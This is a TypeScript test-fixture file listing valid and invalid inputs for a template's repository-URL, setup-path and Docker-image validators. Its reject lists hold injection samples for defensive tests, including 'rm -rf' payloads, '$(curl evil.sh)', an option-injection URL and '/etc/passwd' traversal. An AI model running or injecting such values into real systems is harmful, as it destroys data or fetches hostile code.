/** Sample values for the template's validation regexes: what users type, good and bad. */

/** Git URLs `repo_url` must accept: https, ssh:// and scp-style, with and without `.git`. */
export const GOOD_REPO_URLS = [
  "https://github.com/marcuspat/turbo-flow-claude",
  "https://github.com/marcuspat/turbo-flow-claude.git",
  "https://github.com/SmartPointsTech/turbo-flow-claude/",
  "https://gitlab.com/group/subgroup/project.git",
  "https://git.example.com:8443/team/repo.git",
  "https://github.com/octo-org/.github",
  "https://bitbucket.org/~user/repo",
  "ssh://git@github.com/marcuspat/turbo-flow-claude.git",
  "ssh://git@git.example.com:2222/team/repo.git",
  "ssh://github.com/org/repo",
  "git@github.com:marcuspat/turbo-flow-claude.git",
  "git@gitlab.com:group/subgroup/project.git",
  "git@github.com:org/repo",
  "deploy@10.0.0.5:/srv/git/repo.git",
];

/** Values `repo_url` must refuse. */
export const BAD_REPO_URLS = [
  "",
  "http://github.com/org/repo",
  "https://github.com",
  "https://github.com/",
  "github.com/org/repo",
  "https://user:token@github.com/org/repo",
  "https://github.com/org/repo; rm -rf ~",
  "https://github.com/org/my repo",
  " https://github.com/org/repo",
  "https://github.com/org/repo\n",
  "file:///tmp/repo",
  "git://github.com/org/repo",
  "https://github.com/../etc",
  "https://github.com/org/..",
  "git@github.com:../../etc/passwd",
  "git@github.com",
  "ssh://git@github.com",
  "-uhttps://evil.example.com/x",
  "https://-bad-.example.com/org/repo",
  "$(curl evil.sh)",
];

/** Paths `setup_script` must accept. */
export const GOOD_SETUP_SCRIPTS = [
  "devpods/setup.sh",
  "setup.sh",
  ".devcontainer/setup.sh",
  "devpods/scripts/post-setup.sh",
  "tools/bootstrap",
  "a_b-c.d/e.sh",
];

/** Paths `setup_script` must refuse: absolute, escaping with `..`, odd segments, shell syntax. */
export const BAD_SETUP_SCRIPTS = [
  "",
  "/etc/passwd",
  "/devpods/setup.sh",
  "../setup.sh",
  "devpods/../../x.sh",
  "..",
  ".",
  "./setup.sh",
  "devpods/./setup.sh",
  "devpods//setup.sh",
  "devpods/",
  "~/setup.sh",
  "$HOME/setup.sh",
  "setup .sh",
  "setup.sh;reboot",
  "devpods\\setup.sh",
  "-rf",
  "devpods/setup.sh\n",
];

/** Folder names git clone picks for a URL, which the template's repo_dir must match. */
export const REPO_FOLDERS: Array<[string, string]> = [
  ["https://github.com/marcuspat/turbo-flow-claude", "turbo-flow-claude"],
  ["https://github.com/marcuspat/turbo-flow-claude.git", "turbo-flow-claude"],
  ["https://github.com/SmartPointsTech/turbo-flow-claude/", "turbo-flow-claude"],
  ["git@github.com:org/.github.git", ".github"],
  ["ssh://git@git.example.com:2222/team/repo.git", "repo"],
  ["deploy@10.0.0.5:/srv/git/my.project.git", "my.project"],
];

/** Docker's reference grammar, simplified: [registry[:port]/]path[:tag][@sha256:digest]. */
export const IMAGE_REFERENCE =
  /^([a-z0-9]([a-z0-9-]*[a-z0-9])?(\.[a-z0-9]([a-z0-9-]*[a-z0-9])?)*(:[0-9]+)?\/)?[a-z0-9]+([._-][a-z0-9]+)*(\/[a-z0-9]+([._-][a-z0-9]+)*)*(:[A-Za-z0-9_][A-Za-z0-9_.-]{0,127})?(@sha256:[a-f0-9]{64})?$/;

export const GOOD_IMAGES = [
  "ubuntu:22.04",
  "ubuntu:24.04",
  "debian:12",
  "ghcr.io/org/base-image:1.2.3",
  "registry.example.com:5000/team/ubuntu:jammy",
  `ubuntu@sha256:${"a".repeat(64)}`,
];

export const BAD_IMAGES = [
  "Ubuntu:22.04",
  "ubuntu 22.04",
  "ubuntu:",
  "-ubuntu",
  "ubuntu:22.04;rm -rf /",
  ":latest",
];
